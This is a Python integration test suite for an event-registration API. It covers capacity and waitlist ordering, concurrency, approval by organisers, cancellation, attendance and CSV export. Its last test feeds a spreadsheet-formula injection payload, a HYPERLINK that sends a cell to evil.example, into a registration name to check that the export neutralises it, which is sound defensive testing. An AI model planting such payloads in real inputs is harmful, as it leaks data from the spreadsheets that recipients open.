"""Registrations on both backends: seats, waitlist, window, approval, cancellation, attendance."""

from __future__ import annotations

import asyncio
import csv
import io
import uuid
from collections.abc import Awaitable, Callable
from datetime import UTC, datetime, timedelta
from typing import Any

import httpx
import orjson
import pytest
import sqlalchemy as sa
from fastapi import FastAPI
from nats.js import JetStreamContext

from events.registrations.models import Registration
from kit.service import Runtime
from kit.testing.jetstream import stream_messages
from kit.testing.polling import wait_until

PROBLEM = "application/problem+json"
NewEvent = Callable[..., Awaitable[dict[str, Any]]]


def person(n: int | str, **overrides: Any) -> dict[str, Any]:
    return {"name": f"Élise Lévêque {n}", "email": f"elise.leveque.{n}@exemple.fr", **overrides}


async def register(client: httpx.AsyncClient, event_id: str, n: int | str) -> httpx.Response:
    return await client.post(f"/v1/events/{event_id}/registrations", json=person(n))


async def all_registrations(client: httpx.AsyncClient, event_id: str) -> list[dict[str, Any]]:
    items: list[dict[str, Any]] = []
    after = ""
    while True:
        response = await client.get(f"/v1/events/{event_id}/registrations?limit=37{after}")
        assert response.status_code == 200, response.text
        page = response.json()
        items.extend(page["items"])
        if not page["next"]:
            return items
        after = f"&after={page['next']}"


async def published(
    js: JetStreamContext, event_type: str, subject: str, *, count: int = 1
) -> list[dict[str, Any]]:
    """The envelopes of ``event_type`` about ``subject`` once ``count`` reached JetStream."""

    async def probe() -> list[dict[str, Any]] | None:
        messages = await stream_messages(js, "EVENTS", event_type)
        envelopes = [orjson.loads(m.data or b"{}") for m in messages]
        ours = [e for e in envelopes if e["subject"] == subject]
        return ours if len(ours) >= count else None

    return await wait_until(probe, what=f"{event_type} for {subject} published")


async def test_seats_then_waitlist_in_order_with_public_counts(
    anonymous: httpx.AsyncClient, new_event: NewEvent
) -> None:
    event = await new_event(registration={"mode": "internal", "capacity": 2, "waitlist": True})
    answers = [await register(anonymous, event["id"], n) for n in range(4)]
    assert [a.status_code for a in answers] == [201] * 4
    bodies = [a.json() for a in answers]
    assert [b["status"] for b in bodies] == ["confirmed", "confirmed", "waitlisted", "waitlisted"]
    assert [b["waitlist_position"] for b in bodies] == [None, None, 1, 2]
    assert answers[0].headers["location"] == f"/v1/registrations/{bodies[0]['id']}"
    public = (await anonymous.get(f"/v1/events/{event['id']}")).json()
    assert public["registration_counts"] == {
        "confirmed": 2,
        "capacity": 2,
        "available": 0,
        "waitlisted": 2,
        "pending_approval": 0,
    }
    listed = (await anonymous.get("/v1/events?limit=200")).json()["items"]
    assert (
        next(e for e in listed if e["id"] == event["id"])["registration_counts"]["waitlisted"] == 2
    )


async def test_cancel_by_token_promotes_first_waitlisted(
    anonymous: httpx.AsyncClient, new_event: NewEvent, jetstream: JetStreamContext
) -> None:
    event = await new_event(registration={"mode": "internal", "capacity": 1, "waitlist": True})
    first, second, third = [(await register(anonymous, event["id"], n)).json() for n in range(3)]
    assert (second["status"], third["waitlist_position"]) == ("waitlisted", 2)

    wrong = await anonymous.post(f"/v1/registrations/{first['id']}/cancel?token=not-it")
    assert wrong.status_code == 404
    assert wrong.headers["content-type"] == PROBLEM
    cancelled = await anonymous.post(first["cancel_url"])
    assert cancelled.status_code == 200, cancelled.text
    assert cancelled.json()["status"] == "cancelled"
    again = await anonymous.post(first["cancel_url"])
    assert again.status_code == 200
    assert again.json()["status"] == "cancelled"

    seen_by_second = await anonymous.get(
        f"/v1/registrations/{second['id']}", params={"token": second["token"]}
    )
    assert seen_by_second.json()["status"] == "confirmed"
    seen_by_third = await anonymous.get(
        f"/v1/registrations/{third['id']}", params={"token": third["token"]}
    )
    assert seen_by_third.json()["waitlist_position"] == 1
    assert (await anonymous.get(f"/v1/registrations/{third['id']}")).status_code == 404

    promoted = await published(jetstream, "events.registration.promoted", second["id"])
    assert promoted[0]["data"]["status"] == "confirmed"
    assert promoted[0]["data"]["email"] == "elise.leveque.1@exemple.fr"
    assert promoted[0]["data"]["event_title"] == "Formation Médiation scientifique"
    await published(jetstream, "events.registration.cancelled", first["id"])
    await published(jetstream, "events.registration.waitlisted", third["id"])
    await published(jetstream, "events.registration.confirmed", first["id"])


async def test_concurrent_registrations_never_overbook(
    anonymous: httpx.AsyncClient, admin: httpx.AsyncClient, new_event: NewEvent
) -> None:
    event = await new_event(registration={"mode": "internal", "capacity": 10, "waitlist": True})
    answers = await asyncio.gather(*(register(anonymous, event["id"], n) for n in range(100)))
    assert [a.status_code for a in answers] == [201] * 100, [a.text for a in answers[:3]]
    statuses = [a.json()["status"] for a in answers]
    assert statuses.count("confirmed") == 10
    assert statuses.count("waitlisted") == 90
    stored = await all_registrations(admin, event["id"])
    assert len(stored) == 100
    assert [r["status"] for r in stored] == ["confirmed"] * 10 + ["waitlisted"] * 90
    assert [r["waitlist_position"] for r in stored[10:]] == list(range(1, 91))
    counts = (await admin.get(f"/v1/events/{event['id']}")).json()["registration_counts"]
    assert (counts["confirmed"], counts["waitlisted"]) == (10, 90)


async def test_concurrent_cancellations_and_registrations_keep_the_count(
    anonymous: httpx.AsyncClient, admin: httpx.AsyncClient, new_event: NewEvent
) -> None:
    event = await new_event(registration={"mode": "internal", "capacity": 5, "waitlist": True})
    first = [(await register(anonymous, event["id"], n)).json() for n in range(8)]
    cancels = [anonymous.post(r["cancel_url"]) for r in first[:4]]
    arrivals = [register(anonymous, event["id"], n) for n in range(100, 130)]
    answers = await asyncio.gather(*cancels, *arrivals)
    assert all(a.status_code in (200, 201) for a in answers), [a.text for a in answers]
    stored = await all_registrations(admin, event["id"])
    statuses = [r["status"] for r in stored]
    assert statuses.count("confirmed") == 5
    assert statuses.count("cancelled") == 4
    assert statuses.count("waitlisted") == 38 - 5 - 4
    waiting = [r for r in stored if r["status"] == "waitlisted"]
    assert [r["waitlist_position"] for r in waiting] == list(range(1, len(waiting) + 1))


def _in(days: float) -> str:
    return (datetime.now(UTC) + timedelta(days=days)).isoformat()


@pytest.mark.parametrize(
    ("event_overrides", "slug", "status"),
    [
        ({"registration": {"mode": "internal", "opens_at": _in(3)}}, "registration-not-open", 409),
        ({"registration": {"mode": "internal", "closes_at": _in(-1)}}, "registration-closed", 409),
        (
            {
                "timings": [
                    {"start": "2020-03-12T09:00:00+01:00", "end": "2020-03-12T17:30:00+01:00"}
                ]
            },
            "registration-closed",
            409,
        ),
        ({"status": "cancelled"}, "event-cancelled", 409),
        ({"registration": {"mode": "internal", "capacity": 0}}, "event-full", 409),
        (
            {"registration": {"mode": "external", "url": "https://billetterie.exemple.fr/"}},
            "registration-unavailable",
            409,
        ),
        ({"registration": {"mode": "none"}}, "registration-unavailable", 409),
    ],
)
async def test_registration_refused_with_a_clear_problem(
    anonymous: httpx.AsyncClient,
    admin: httpx.AsyncClient,
    new_event: NewEvent,
    event_overrides: dict[str, Any],
    slug: str,
    status: int,
) -> None:
    event = await new_event(**event_overrides)
    response = await register(anonymous, event["id"], "x")
    assert response.status_code == status, response.text
    assert response.headers["content-type"] == PROBLEM
    assert response.json()["type"].endswith(f"/{slug}")
    assert response.json()["detail"]
    assert (await admin.get(f"/v1/events/{event['id']}/registrations")).json()["items"] == []


async def test_one_registration_per_email_until_cancelled(
    anonymous: httpx.AsyncClient, new_event: NewEvent
) -> None:
    event = await new_event()
    first = await anonymous.post(
        f"/v1/events/{event['id']}/registrations",
        json={"name": "Zoé", "email": "zoe.muller@exemple.fr"},
    )
    assert first.status_code == 201
    twice = await anonymous.post(
        f"/v1/events/{event['id']}/registrations",
        json={"name": "Zoé M.", "email": "Zoe.Muller@EXEMPLE.fr"},
    )
    assert twice.status_code == 409
    assert twice.json()["type"].endswith("/already-registered")
    await anonymous.post(first.json()["cancel_url"])
    again = await anonymous.post(
        f"/v1/events/{event['id']}/registrations",
        json={"name": "Zoé", "email": "zoe.muller@exemple.fr"},
    )
    assert again.status_code == 201
    assert again.json()["status"] == "confirmed"


async def test_several_per_email_only_when_the_event_allows_it(
    anonymous: httpx.AsyncClient, admin: httpx.AsyncClient, new_event: NewEvent
) -> None:
    event = await new_event(
        registration={
            "mode": "internal",
            "capacity": 10,
            "waitlist": True,
            "allow_several_per_email": True,
        }
    )
    assert event["registration"]["allow_several_per_email"] is True
    url = f"/v1/events/{event['id']}/registrations"
    answers = await asyncio.gather(
        *(
            anonymous.post(url, json={"name": f"Enfant {n}", "email": "Parent@Exemple.fr"})
            for n in range(5)
        )
    )
    assert [a.status_code for a in answers] == [201] * 5, [a.text for a in answers]
    assert len({a.json()["id"] for a in answers}) == 5
    stored = await all_registrations(admin, event["id"])
    assert [r["email"] for r in stored] == ["Parent@exemple.fr"] * 5  # domain lowercased

    changed = await admin.patch(
        f"/v1/events/{event['id']}", json={"registration": {"allow_several_per_email": False}}
    )
    assert changed.status_code == 200, changed.text
    refused = await anonymous.post(url, json={"name": "Enfant 6", "email": "parent@exemple.fr"})
    assert refused.status_code == 409
    assert refused.json()["type"].endswith("/already-registered")


async def test_one_registration_per_email_by_default_even_at_once(
    anonymous: httpx.AsyncClient, admin: httpx.AsyncClient, new_event: NewEvent
) -> None:
    event = await new_event()
    assert event["registration"]["allow_several_per_email"] is False
    url = f"/v1/events/{event['id']}/registrations"
    answers = await asyncio.gather(
        *(anonymous.post(url, json={"name": "Zoé", "email": "zoe@exemple.fr"}) for _ in range(5))
    )
    assert sorted(a.status_code for a in answers) == [201, 409, 409, 409, 409]
    assert len(await all_registrations(admin, event["id"])) == 1


async def test_a_refused_person_may_register_again(
    anonymous: httpx.AsyncClient, admin: httpx.AsyncClient, new_event: NewEvent
) -> None:
    event = await new_event(
        registration={"mode": "internal", "capacity": 5, "requires_approval": True}
    )
    url = f"/v1/events/{event['id']}/registrations"
    first = (await anonymous.post(url, json={"name": "Zoé", "email": "zoe@exemple.fr"})).json()
    assert (await admin.post(f"/v1/registrations/{first['id']}/refuse")).status_code == 200

    again = await anonymous.post(url, json={"name": "Zoé M.", "email": "ZOE@exemple.fr"})
    assert again.status_code == 201, again.text
    assert again.json()["status"] == "pending_approval"
    third = await anonymous.post(url, json={"name": "Zoé", "email": "zoe@exemple.fr"})
    assert third.status_code == 409  # pending holds the e-mail
    assert third.json()["type"].endswith("/already-registered")
    approved = await admin.post(f"/v1/registrations/{again.json()['id']}/approve")
    assert approved.json()["status"] == "confirmed"


async def test_the_database_backs_the_one_per_email_rule(
    events_app: FastAPI, new_event: NewEvent
) -> None:
    """Past the service's check under the event lock, the unique index still refuses a
    second active registration of one e-mail in slot 0; refused and cancelled ones free it."""
    event = await new_event()
    runtime: Runtime = events_app.state.runtime

    def row(number: int, status: str, slot: int = 0) -> Registration:
        now = datetime.now(UTC)
        return Registration(
            id=uuid.uuid4(),
            version=1,
            event_id=uuid.UUID(event["id"]),
            number=number,
            name="Zoé",
            email="zoe@exemple.fr",
            email_key="zoe@exemple.fr",
            email_slot=slot,
            status=status,
            token_hash="0" * 64,
            sessions_attended={},
            created_at=now,
            updated_at=now,
        )

    async with runtime.database.transaction() as session:
        session.add_all(
            [row(1, "refused"), row(2, "cancelled"), row(3, "confirmed"), row(4, "waitlisted", 4)]
        )
    with pytest.raises(sa.exc.IntegrityError):
        async with runtime.database.transaction() as session:
            session.add(row(5, "pending_approval"))


@pytest.mark.parametrize(
    ("body", "field"),
    [
        ({"name": "Zoé", "email": "zoe.muller@"}, "email"),
        ({"name": "Zoé", "email": "zoé muller@exemple.fr"}, "email"),
        ({"name": "", "email": "zoe@exemple.fr"}, "name"),
        ({"email": "zoe@exemple.fr"}, "name"),
        ({"name": "Zoé", "email": "zoe@exemple.fr", "status": "confirmed"}, "status"),
        ({"name": "Zoé", "email": "zoe@exemple.fr", "actor_id": str(uuid.uuid4())}, "actor_id"),
    ],
)
async def test_malformed_registration_is_422_naming_the_field(
    anonymous: httpx.AsyncClient,
    admin: httpx.AsyncClient,
    new_event: NewEvent,
    body: dict[str, Any],
    field: str,
) -> None:
    event = await new_event()
    response = await anonymous.post(f"/v1/events/{event['id']}/registrations", json=body)
    assert response.status_code == 422, response.text
    assert response.headers["content-type"] == PROBLEM
    assert field in [e["field"] for e in response.json()["errors"]]
    assert (await admin.get(f"/v1/events/{event['id']}/registrations")).json()["items"] == []


async def test_only_a_member_key_of_the_actor_registers_on_its_behalf(
    anonymous: httpx.AsyncClient,
    member_of: Callable[..., httpx.AsyncClient],
    announce: Callable[..., Any],
    new_event: NewEvent,
) -> None:
    """Anyone could claim any actor_id: the actor then showed in the attendee list."""
    actor_id = uuid.uuid4()
    await announce("directory.actor.created", actor_id, name="Muséum de Toulouse")
    event = await new_event(organizer_id=actor_id)  # waits until the calendar knows the actor
    url = f"/v1/events/{event['id']}/registrations"

    def body(email: str) -> dict[str, Any]:
        return {"name": "Zoé", "email": email, "actor_id": str(actor_id)}

    claimed = await anonymous.post(url, json=body("zoe.claim@exemple.fr"))
    async with member_of(uuid.uuid4()) as stranger, member_of(actor_id) as member:
        strangers = await stranger.post(url, json=body("zoe.stranger@exemple.fr"))
        members = await member.post(url, json=body("zoe.member@exemple.fr"))

    for refused in (claimed, strangers):
        assert refused.status_code == 422, refused.text
        assert [e["field"] for e in refused.json()["errors"]] == ["actor_id"]
    assert members.status_code == 201, members.text
    assert members.json()["actor_id"] == str(actor_id)


async def test_unknown_or_unpublished_event_is_404(
    anonymous: httpx.AsyncClient,
    member_of: Callable[..., httpx.AsyncClient],
    announce: Callable[..., Any],
    new_event: NewEvent,
) -> None:
    missing = await register(anonymous, str(uuid.uuid4()), 1)
    assert missing.status_code == 404
    assert missing.json()["type"].endswith("/event-not-found")
    actor_id = uuid.uuid4()
    await announce("directory.actor.created", actor_id, name="Muséum de Toulouse")
    await new_event(organizer_id=actor_id)  # waits until the calendar knows the actor
    async with member_of(actor_id) as member:
        pending = await member.post(
            "/v1/events",
            json={
                "title": "Atelier en attente",
                "kind": "workshop",
                "organizer_ids": [str(actor_id)],
                "timings": [
                    {"start": "2031-04-01T14:00:00+02:00", "end": "2031-04-01T16:00:00+02:00"}
                ],
                "location": {"city": "Toulouse", "commune_insee": "31555"},
                "registration": {"mode": "internal", "capacity": 5},
            },
        )
    assert pending.json()["state"] == "pending"
    assert (await register(anonymous, pending.json()["id"], 1)).status_code == 404


async def test_approval_flow_by_organizers_only(
    anonymous: httpx.AsyncClient,
    member_of: Callable[..., httpx.AsyncClient],
    announce: Callable[..., Any],
    new_event: NewEvent,
    jetstream: JetStreamContext,
) -> None:
    actor_id = uuid.uuid4()
    await announce("directory.actor.created", actor_id, name="Science Animation")
    event = await new_event(
        organizer_id=actor_id,
        registration={
            "mode": "internal",
            "capacity": 1,
            "waitlist": True,
            "requires_approval": True,
        },
    )
    a, b, c = [(await register(anonymous, event["id"], n)).json() for n in range(3)]
    assert [r["status"] for r in (a, b, c)] == ["pending_approval"] * 3
    counts = (await anonymous.get(f"/v1/events/{event['id']}")).json()["registration_counts"]
    assert (counts["confirmed"], counts["pending_approval"]) == (0, 3)

    assert (await anonymous.post(f"/v1/registrations/{a['id']}/approve")).status_code == 401
    async with member_of(uuid.uuid4()) as stranger:
        refused = await stranger.post(f"/v1/registrations/{a['id']}/approve")
        assert refused.status_code == 403
        assert refused.json()["type"].endswith("/registrations-forbidden")
    async with member_of(actor_id) as organizer:
        approved = await organizer.post(f"/v1/registrations/{a['id']}/approve")
        assert approved.json()["status"] == "confirmed"
        queued = await organizer.post(f"/v1/registrations/{b['id']}/approve")
        assert queued.json()["status"] == "waitlisted"
        assert queued.json()["waitlist_position"] == 1
        no = await organizer.post(f"/v1/registrations/{c['id']}/refuse")
        assert no.json()["status"] == "refused"
        twice = await organizer.post(f"/v1/registrations/{c['id']}/approve")
        assert twice.status_code == 409
        assert twice.json()["type"].endswith("/registration-state")
    await published(jetstream, "events.registration.refused", c["id"])
    await published(jetstream, "events.registration.confirmed", a["id"])


async def test_no_approval_on_a_cancelled_event(
    anonymous: httpx.AsyncClient, admin: httpx.AsyncClient, new_event: NewEvent
) -> None:
    event = await new_event(
        registration={"mode": "internal", "capacity": 5, "requires_approval": True}
    )
    first, second = [(await register(anonymous, event["id"], n)).json() for n in range(2)]
    cancelled = await admin.patch(f"/v1/events/{event['id']}", json={"status": "cancelled"})
    assert cancelled.status_code == 200, cancelled.text

    approved = await admin.post(f"/v1/registrations/{first['id']}/approve")
    assert approved.status_code == 409, approved.text
    assert approved.headers["content-type"] == PROBLEM
    assert approved.json()["type"].endswith("/event-cancelled")
    assert (await register(anonymous, event["id"], 9)).json()["type"] == approved.json()["type"]
    still = await admin.get(f"/v1/registrations/{first['id']}")
    assert still.json()["status"] == "pending_approval"
    refused = await admin.post(f"/v1/registrations/{second['id']}/refuse")
    assert refused.json()["status"] == "refused"


async def test_deleting_an_event_cancels_its_registrations(
    anonymous: httpx.AsyncClient,
    admin: httpx.AsyncClient,
    new_event: NewEvent,
    jetstream: JetStreamContext,
) -> None:
    event = await new_event(registration={"mode": "internal", "capacity": 1, "waitlist": True})
    seated, waiting, gone = [(await register(anonymous, event["id"], n)).json() for n in range(3)]
    assert (await anonymous.post(gone["cancel_url"])).status_code == 200
    assert (await admin.delete(f"/v1/events/{event['id']}")).status_code == 204

    for mine in (seated, waiting, gone):
        read = await anonymous.get(
            f"/v1/registrations/{mine['id']}", params={"token": mine["token"]}
        )
        assert read.status_code == 200, read.text
        assert read.json()["status"] == "cancelled"
        again = await anonymous.post(mine["cancel_url"])
        assert again.status_code == 200, again.text
        assert again.json()["status"] == "cancelled"
    for mine in (seated, waiting):
        told = await published(jetstream, "events.registration.cancelled", mine["id"])
        assert told[0]["data"]["status"] == "cancelled"
        assert told[0]["data"]["event_id"] == event["id"]
    promoted = await stream_messages(jetstream, "EVENTS", "events.registration.promoted")
    assert waiting["id"] not in [orjson.loads(m.data or b"{}")["subject"] for m in promoted]


async def test_attendee_list_for_organizers_and_staff_only(
    anonymous: httpx.AsyncClient,
    admin: httpx.AsyncClient,
    member_of: Callable[..., httpx.AsyncClient],
    announce: Callable[..., Any],
    new_event: NewEvent,
) -> None:
    actor_id = uuid.uuid4()
    await announce("directory.actor.created", actor_id, name="Cap Sciences")
    event = await new_event(organizer_id=actor_id)
    mine = (await register(anonymous, event["id"], 1)).json()
    url = f"/v1/events/{event['id']}/registrations"
    assert (await anonymous.get(url)).status_code == 401
    async with member_of(uuid.uuid4()) as stranger:
        assert (await stranger.get(url)).status_code == 403
        assert (await stranger.get(f"/v1/registrations/{mine['id']}")).status_code == 404
    async with member_of(actor_id) as organizer:
        listed = (await organizer.get(url)).json()["items"]
        assert [(r["name"], r["email"]) for r in listed] == [
            ("Élise Lévêque 1", "elise.leveque.1@exemple.fr")
        ]
        assert "token" not in listed[0]
        assert (await organizer.get(f"/v1/registrations/{mine['id']}")).status_code == 200
    assert (await admin.get(f"{url}?status=waitlisted")).json()["items"] == []


async def test_attendance_per_event_and_per_session(
    anonymous: httpx.AsyncClient,
    admin: httpx.AsyncClient,
    new_event: NewEvent,
    jetstream: JetStreamContext,
) -> None:
    event = await new_event(
        timings=[
            {"start": "2031-06-01T09:00:00+02:00", "end": "2031-06-01T12:00:00+02:00"},
            {"start": "2031-06-08T09:00:00+02:00", "end": "2031-06-08T12:00:00+02:00"},
        ],
        registration={"mode": "internal", "capacity": 1, "waitlist": True},
    )
    present = (await register(anonymous, event["id"], 1)).json()
    waiting = (await register(anonymous, event["id"], 2)).json()
    attendance = f"/v1/registrations/{present['id']}/attendance"

    assert (await anonymous.post(attendance, json={"attended": True})).status_code == 401
    first = await admin.post(attendance, json={"attended": True, "session": 0})
    assert first.status_code == 200, first.text
    assert first.json()["attended"] is True
    assert first.json()["sessions_attended"] == {"0": True}
    second = await admin.post(attendance, json={"attended": False, "session": 1})
    assert second.json()["sessions_attended"] == {"0": True, "1": False}
    assert second.json()["attended"] is True
    out_of_range = await admin.post(attendance, json={"attended": True, "session": 2})
    assert out_of_range.status_code == 422
    assert out_of_range.json()["errors"][0]["field"] == "session"
    not_confirmed = await admin.post(
        f"/v1/registrations/{waiting['id']}/attendance", json={"attended": True}
    )
    assert not_confirmed.status_code == 409

    recorded = await published(jetstream, "events.attendance.recorded", present["id"], count=2)
    assert [(e["data"]["session"], e["data"]["attended"]) for e in recorded] == [
        (0, True),
        (1, False),
    ]
    assert recorded[0]["data"]["event_kind"] == "training"


async def test_concurrent_marks_of_different_sessions_are_all_kept(
    anonymous: httpx.AsyncClient,
    admin: httpx.AsyncClient,
    new_event: NewEvent,
    jetstream: JetStreamContext,
) -> None:
    event = await new_event(
        timings=[
            {"start": f"2031-09-0{day}T09:00:00+02:00", "end": f"2031-09-0{day}T12:00:00+02:00"}
            for day in range(1, 5)
        ]
    )
    present = (await register(anonymous, event["id"], 1)).json()
    attendance = f"/v1/registrations/{present['id']}/attendance"
    answers = await asyncio.gather(
        *(admin.post(attendance, json={"attended": s % 2 == 0, "session": s}) for s in range(4))
    )
    assert [a.status_code for a in answers] == [200] * 4, [a.text for a in answers]
    stored = (await admin.get(f"/v1/registrations/{present['id']}")).json()
    assert stored["sessions_attended"] == {"0": True, "1": False, "2": True, "3": False}
    assert stored["attended"] is True

    recorded = await published(jetstream, "events.attendance.recorded", present["id"], count=4)
    assert sorted((e["data"]["session"], e["data"]["attended"]) for e in recorded) == [
        (0, True),
        (1, False),
        (2, True),
        (3, False),
    ]


async def test_csv_export_for_organizers(
    anonymous: httpx.AsyncClient,
    admin: httpx.AsyncClient,
    member_of: Callable[..., httpx.AsyncClient],
    new_event: NewEvent,
) -> None:
    event = await new_event(registration={"mode": "internal", "capacity": 1, "waitlist": True})
    url = f"/v1/events/{event['id']}/registrations"
    first = await anonymous.post(
        url, json={"name": "Durand; Marie-Hélène", "email": "mh@exemple.fr"}
    )
    await anonymous.post(url, json={"name": 'Loïc "Lolo" Le Gall', "email": "loic@exemple.fr"})
    await admin.post(f"/v1/registrations/{first.json()['id']}/attendance", json={"attended": True})

    assert (await anonymous.get(f"{url}.csv")).status_code == 401
    async with member_of(uuid.uuid4()) as stranger:
        assert (await stranger.get(f"{url}.csv")).status_code == 403
    export = await admin.get(f"{url}.csv")
    assert export.status_code == 200
    assert export.headers["content-type"] == "text/csv; charset=utf-8"
    assert export.content.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(export.content.decode("utf-8-sig")), delimiter=";"))
    assert rows[0][:7] == [
        "numero",
        "nom",
        "email",
        "acteur",
        "statut",
        "place_liste_attente",
        "present",
    ]
    assert [row[:7] for row in rows[1:]] == [
        ["1", "Durand; Marie-Hélène", "mh@exemple.fr", "", "confirmed", "", "oui"],
        ["2", 'Loïc "Lolo" Le Gall', "loic@exemple.fr", "", "waitlisted", "1", ""],
    ]


async def test_csv_export_never_writes_a_formula(
    anonymous: httpx.AsyncClient, admin: httpx.AsyncClient, new_event: NewEvent
) -> None:
    event = await new_event()
    url = f"/v1/events/{event['id']}/registrations"
    formula = '=HYPERLINK("http://evil.example/?x="&C2,"Voir")'
    registered = await anonymous.post(url, json={"name": formula, "email": "-2+3@exemple.fr"})
    assert registered.status_code == 201, registered.text
    await anonymous.post(url, json={"name": "@SOMME(A1:A9)", "email": "ok@exemple.fr"})

    export = await admin.get(f"{url}.csv")
    rows = list(csv.reader(io.StringIO(export.content.decode("utf-8-sig")), delimiter=";"))
    assert [row[1:3] for row in rows[1:]] == [
        ["'" + formula, "'-2+3@exemple.fr"],
        ["'@SOMME(A1:A9)", "ok@exemple.fr"],
    ]
    # The API itself keeps what was typed: only the spreadsheet cells are quoted.
    assert (await admin.get(f"/v1/registrations/{registered.json()['id']}")).json()[
        "name"
    ] == formula
